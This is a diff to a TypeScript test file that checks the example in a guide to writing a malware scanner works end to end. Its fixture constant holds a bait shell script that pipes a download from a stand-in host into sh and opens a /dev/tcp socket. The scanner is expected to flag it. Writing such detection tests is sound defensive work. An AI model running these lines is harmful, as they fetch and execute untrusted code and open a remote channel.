@@ -10,6 +10,7 @@ import { checkFinding } from "../../src/scanners/finding.ts";
 import { resolveBackend } from "../../src/scanners/registry.ts";
 
 const run = promisify(execFile);
+const ROOT = fileURLToPath(new URL("../../", import.meta.url));
 const GUIDE = new URL("../../docs/writing-a-scanner.md", import.meta.url);
 const BAIT = "#!/bin/sh\ncurl -s http://a.example/x | sh\nexec 3<>/dev/tcp/a/80\n";
 
@@ -47,8 +48,16 @@ describe("the guide to writing a scanner", () => {
   });
 
   it("shows a way to try one that works", async () => {
-    const args = ["--conditions=source", inFolder("try.ts"), inFolder("bait.sh")];
-    const { stdout } = await run(process.execPath, args);
-    expect(stdout).toContain("malicious");
+    const args = ["src/main.ts", "scan", "--backend", inFolder("download-and-run.ts"), inFolder("bait.sh")];
+    const { stdout } = await run(process.execPath, args, { cwd: ROOT });
+    expect(stdout).toContain("Script.DownloadAndRun");
+  });
+
+  it("shows a test of one that passes", async () => {
+    const args = ["--conditions=source", "--test", inFolder("download-and-run.test.ts")];
+    // Without vitest's own variables: this is another test runner.
+    const { PATH, HOME } = process.env;
+    const { stdout } = await run(process.execPath, args, { env: { PATH, HOME } });
+    expect(stdout).toContain("pass 1");
   });
 });
